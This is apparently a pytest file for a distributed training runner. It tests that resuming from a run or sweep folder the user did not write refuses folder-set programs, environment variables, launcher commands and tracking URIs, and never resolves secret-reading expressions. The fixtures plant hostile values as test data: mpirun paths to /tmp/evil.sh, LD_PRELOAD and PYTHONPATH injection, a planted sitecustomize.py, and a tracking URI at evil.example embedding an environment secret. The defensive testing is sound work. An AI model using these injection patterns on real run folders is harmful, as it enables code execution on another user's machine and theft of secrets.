"""A run folder from elsewhere is data: ``resume=`` takes from a folder this user's runner did not write (or
whose ``config.yaml`` changed since) no program, environment or destination, and no saved config may hold
an expression (``${oc.env:SECRET}``); the user's own folders resume as before."""

from __future__ import annotations

import dataclasses
import os
import re
import shutil
import stat
from pathlib import Path

import pytest
import yaml
from omegaconf import OmegaConf

from runner.schema import GROUPS, option_modules, provenance, schema_of
from runner.schema.config import load_structured
from tests.conftest import compose_config, run_cli


@pytest.fixture(autouse=True)
def own_key(tmp_path, monkeypatch):
    """Each test its own user key (the user's configuration folder under tmp_path)."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))


def test_the_mark_says_whose_folder_and_whether_it_changed(tmp_path, monkeypatch):
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    text = "devices: 2\n"
    (run_dir / "config.yaml").write_text(text)
    assert not provenance.is_own(run_dir)  # no mark
    (run_dir / provenance.MARK).write_text(provenance.mark(run_dir, text))
    assert provenance.is_own(run_dir)
    key = provenance.key_path()
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(key.read_bytes()) == 32
    (run_dir / "config.yaml").write_text("devices: 4\n")  # edited since
    assert not provenance.is_own(run_dir)
    (run_dir / "config.yaml").write_text(text)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "another-user"))
    assert not provenance.is_own(run_dir), "another user's key made this mark"


def test_without_a_key_of_its_own_no_folder_is_own(tmp_path, monkeypatch):
    blocked = tmp_path / "file"
    blocked.write_text("")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(blocked))  # a file: no folder can be made under it
    assert provenance.mark(tmp_path, "x") is None
    assert not provenance.is_own(tmp_path)


FOLDER = {
    "devices": 2,
    "optim": {"lr": 0.1},
    "hardware": {
        "mpirun": "/tmp/evil.sh",
        "env": {"PYTHONPATH": "/tmp/evil", "TOKEN": "<hidden>"},
        "extra_args": ["-x", "LD_PRELOAD=/tmp/evil.so"],
        "mca": {"btl": "^ofi", "plm_rsh_agent": "/tmp/evil.sh"},
        "bind": "none",
    },
    "logger": {"mlflow": {"tracking_uri": "http://evil.example/x", "experiment": "e"}},
}


def test_each_value_that_runs_sets_or_sends_is_named_and_the_users_own_pass():
    own = compose_config([])  # its hardware.mca.btl is ^ofi, as the folder's
    found = provenance.foreign_values(FOLDER, lambda k: OmegaConf.select(own, k, default="???"), set())
    keys = [f.split("=", 1)[0] for f in found]
    assert keys == [
        "hardware.mpirun",
        "hardware.env.PYTHONPATH",
        "hardware.env.TOKEN",
        "hardware.extra_args",
        "hardware.mca.plm_rsh_agent",
        "logger.mlflow.tracking_uri",
    ]
    assert "runs that program" in found[0]
    given = {"hardware.mpirun", "hardware.env", "hardware.extra_args", "hardware.mca", "logger"}
    assert provenance.foreign_values(FOLDER, lambda k: "???", given) == []
    same = {"hardware": {k: OmegaConf.to_container(own.hardware)[k] for k in ("mpirun", "env", "mca")}}
    assert provenance.foreign_values(same, lambda k: OmegaConf.select(own, k, default="???"), set()) == []


#: Words in the names of schema fields that may run, reach or write somewhere: each such field must be
#: listed one way or the other.
SUSPECT = {"uri", "url", "host", "hosts", "hostfile", "dir", "path", "root", "file", "mpirun", "env", "args"}
SUSPECT |= {"entity", "command", "program", "exec", "agent", "launcher", "mpi", "server", "endpoint"}


def schema_fields() -> list[str]:
    """``group.field`` of every field of every option's schema (discovered), and of the top level's."""
    from runner.schema.config import Config

    found = {f"{f.name}" for f in dataclasses.fields(Config)}
    for group in GROUPS:
        for module in option_modules(group):
            try:
                cls = schema_of(group, module)
            except ValueError:  # a helper module of the package, not an option
                continue
            key = f"logger.{module}" if group == "logger" else group
            found |= {f"{key}.{f.name}" for f in dataclasses.fields(cls)}
    return sorted(found)


def test_every_field_that_could_run_reach_or_write_is_classified():
    listed = set(provenance.FOREIGN_KEYS) | {k.rstrip(".") for k in provenance.FOREIGN_KEYS}
    unclassified = [
        key
        for key in schema_fields()
        if SUSPECT & set(key.rsplit(".", 1)[-1].split("_"))
        and key not in listed
        and key not in provenance.NOT_FOREIGN
    ]
    assert unclassified == [], (
        f"{unclassified}: list each in runner.schema.provenance.FOREIGN_KEYS (a folder from elsewhere "
        "cannot set it) or NOT_FOREIGN (with why it is data)"
    )
    names = {k.rstrip(".") for k in (*provenance.FOREIGN_KEYS, *provenance.NOT_FOREIGN)}
    stale = sorted(names - set(schema_fields()))
    assert stale == [], f"{stale}: listed in runner.schema.provenance but no schema has them"


def saved(run_dir: Path, overrides: list[str], **changes) -> Path:
    """A run folder's config.yaml as the launcher writes it (no mark), with ``changes`` at the top."""
    from runner.schema.config import schema_paths

    cfg = compose_config(overrides)
    config = OmegaConf.to_container(cfg, resolve=True)
    config["_schemas_"] = schema_paths(cfg)
    config.update(changes)
    run_dir.mkdir(parents=True, exist_ok=True)
    (run_dir / "config.yaml").write_text(yaml.safe_dump(config))
    return run_dir / "config.yaml"


def test_a_saved_config_holding_an_expression_is_refused_without_resolving_it(tmp_path, monkeypatch):
    monkeypatch.setenv("MPITRAIN_TEST_SECRET", "s3cr3t-value")
    config = saved(tmp_path / "run", ["model=mlp"])
    text = config.read_text().replace("monitor: null", "monitor: ${oc.env:MPITRAIN_TEST_SECRET}")
    config.write_text(text)
    with pytest.raises(ValueError, match=r"train\.monitor holds an expression") as err:
        load_structured(config)
    assert "s3cr3t-value" not in str(err.value) and "${oc.env:MPITRAIN_TEST_SECRET}" in str(err.value)


# -- the command line: a real run folder, copied as a colleague's would be ----------------------------------


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> Path:
    """A finished 2-rank run with a checkpoint (the MLP on digits, a few seconds), under a key of its own."""
    base = tmp_path_factory.mktemp("trained")
    env = {**os.environ, "XDG_CONFIG_HOME": str(base / "colleague")}
    run = run_cli(base / "run", "model=mlp", "train.max_steps=6", "checkpoint.every=3", env=env)
    assert run.returncode == 0, run.output
    assert (base / "run" / provenance.MARK).is_file()
    return base / "run"


def planted(tmp_path: Path, trained: Path, **hardware) -> tuple[Path, Path]:
    """A copy of ``trained`` whose config sets ``hardware``'s keys; and the marker a planted program or
    ``sitecustomize.py`` would leave."""
    run_dir = tmp_path / "run"
    shutil.copytree(trained, run_dir)
    marker = tmp_path / "ran"
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    script = evil / "mpirun"
    script.write_text(f"#!/bin/sh\ntouch {marker}\nexit 0\n")
    script.chmod(0o755)
    config = yaml.safe_load((run_dir / "config.yaml").read_text())
    for key, value in hardware.items():
        config["hardware"][key] = value(evil) if callable(value) else value
    (run_dir / "config.yaml").write_text(yaml.safe_dump(config))
    return run_dir, marker


CASES = {
    "mpirun": ({"mpirun": lambda evil: str(evil / "mpirun")}, "hardware.mpirun="),
    "env": ({"env": lambda evil: {"PYTHONPATH": str(evil)}}, "hardware.env.PYTHONPATH="),
    "extra_args": ({"extra_args": lambda evil: ["-x", f"PYTHONPATH={evil}"]}, "hardware.extra_args="),
}


@pytest.mark.slow
@pytest.mark.mpi
@pytest.mark.parametrize("case", list(CASES))
def test_a_folder_from_elsewhere_runs_no_program_and_sets_no_environment(tmp_path, trained, case):
    hardware, named = CASES[case]
    run_dir, marker = planted(tmp_path, trained, **hardware)
    before = (run_dir / "mpirun.log").read_text()
    run = run_cli(tmp_path / "x", f"resume={run_dir}", "train.max_steps=9", timeout=120)
    assert run.returncode == 2, run.output
    assert named in run.output and "trust_folder=true" in run.output, run.output
    assert "invalid input, nothing was started" in run.output
    assert not marker.exists(), "the folder's program or sitecustomize ran"
    assert (run_dir / "mpirun.log").read_text() == before, "a rank started"


@pytest.mark.slow
@pytest.mark.mpi
def test_the_users_own_value_on_the_command_line_or_trust_resumes_it(tmp_path, trained):
    run_dir, marker = planted(tmp_path, trained, env={"MPITRAIN_FROM_FOLDER": "1"}, extra_args=["-x", "X=1"])
    run = run_cli(tmp_path / "x", f"resume={run_dir}", "train.max_steps=9", "hardware.env={}", timeout=120)
    assert run.returncode == 2 and "hardware.extra_args=" in run.output, run.output
    assert "hardware.env.MPITRAIN_FROM_FOLDER" not in run.output, "hardware.env={} was given"
    run = run_cli(tmp_path / "y", f"resume={run_dir}", "train.max_steps=9", "trust_folder=true", timeout=120)
    assert run.returncode == 0, run.output
    assert not marker.exists()
    resumed = yaml.safe_load((run_dir / "config.yaml").read_text())
    assert resumed["trust_folder"] is False, "trust is the command's, never kept in the folder"
    assert provenance.is_own(run_dir), "resumed with trust, the folder is the user's own now"
    secret = "+hardware.env.MPITRAIN_FROM_FOLDER=1"  # (hardware.env's values are never written)
    again = run_cli(tmp_path / "z", f"resume={run_dir}", "train.max_steps=12", secret, timeout=120)
    assert again.returncode == 0, again.output


@pytest.mark.slow
@pytest.mark.mpi
def test_a_secret_in_a_folders_config_is_never_resolved_sent_or_written(tmp_path, trained, monkeypatch):
    monkeypatch.setenv("MPITRAIN_TEST_SECRET", "s3cr3t-value")
    run_dir = tmp_path / "run"
    shutil.copytree(trained, run_dir)
    config = (run_dir / "config.yaml").read_text()
    planted_uri = "logger:\n  mlflow:\n    tracking_uri: http://evil.example/${oc.env:MPITRAIN_TEST_SECRET}\n"
    (run_dir / "config.yaml").write_text(re.sub(r"(?m)^logger:.*\n(  .*\n)*", planted_uri, config))
    run = run_cli(tmp_path / "x", f"resume={run_dir}", "train.max_steps=9", timeout=120)
    assert run.returncode == 2, run.output
    assert "logger.mlflow.tracking_uri holds an expression" in run.output, run.output
    assert "s3cr3t-value" not in run.output
    written = "".join(p.read_text(errors="replace") for p in run_dir.rglob("*") if p.is_file())
    assert "s3cr3t-value" not in written


def sweep_folder(path: Path, task: list[str], launcher: list[str] = ()) -> Path:
    """A sweep folder as Hydra records one (``multirun.yaml``), without the user's mark."""
    path.mkdir(parents=True)
    recorded = {
        "hydra": {
            "sweeper": {"_target_": "runner.launcher.sweeper.MpitrainSweeper"},
            "sweep": {"dir": str(path), "subdir": "${hydra.job.num}"},
            "overrides": {"task": task, "hydra": list(launcher)},
        }
    }
    (path / "multirun.yaml").write_text(yaml.safe_dump(recorded))
    return path


def test_a_sweep_folder_from_elsewhere_cannot_set_a_program_or_the_launcher(tmp_path):
    from runner.launcher.sweep_resume import resumed_argv

    evil = ["hardware.mpirun=/tmp/evil.sh", "optim.lr=0.1,0.01", "+hardware.env.PYTHONPATH=/tmp/evil"]
    setup = ["hydra/launcher=submitit_slurm", "hydra.launcher.setup=[touch /tmp/ran]"]
    path = sweep_folder(tmp_path / "sweep", evil, setup)
    with pytest.raises(ValueError, match="not written by your runner") as err:
        resumed_argv([f"resume={path}"])
    for named in ("hardware.mpirun=/tmp/evil.sh", "hardware.env.PYTHONPATH", "hydra.launcher.setup"):
        assert named in str(err.value)
    assert "optim.lr" not in str(err.value) and "trust_folder=true" in str(err.value)
    argv = resumed_argv([f"resume={path}", "trust_folder=true"])
    assert "hardware.mpirun=/tmp/evil.sh" in argv
    given = resumed_argv(
        [f"resume={path}", "hardware.mpirun=null", "hardware.env={}", "hydra.launcher.setup=[]"]
    )
    assert "hardware.mpirun=/tmp/evil.sh" not in given and "hardware.mpirun=null" in given


def test_the_users_own_sweep_folder_resumes_with_what_it_recorded(tmp_path):
    from runner.launcher.sweep_resume import resumed_argv

    task = ["hardware.mpirun=/opt/mpi/bin/mpirun", "optim.lr=0.1,0.01"]
    path = sweep_folder(tmp_path / "sweep", task)
    recorded = OmegaConf.load(path / "multirun.yaml").hydra.overrides
    (path / provenance.MARK).write_text(provenance.mark(path, provenance.sweep_text(recorded)))
    assert "hardware.mpirun=/opt/mpi/bin/mpirun" in resumed_argv([f"resume={path}"])
    edited = (path / "multirun.yaml").read_text().replace("/opt/mpi/bin/mpirun", "/tmp/evil.sh")
    (path / "multirun.yaml").write_text(edited)
    with pytest.raises(ValueError, match=r"hardware\.mpirun=/tmp/evil\.sh \(runs that program\)"):
        resumed_argv([f"resume={path}"])
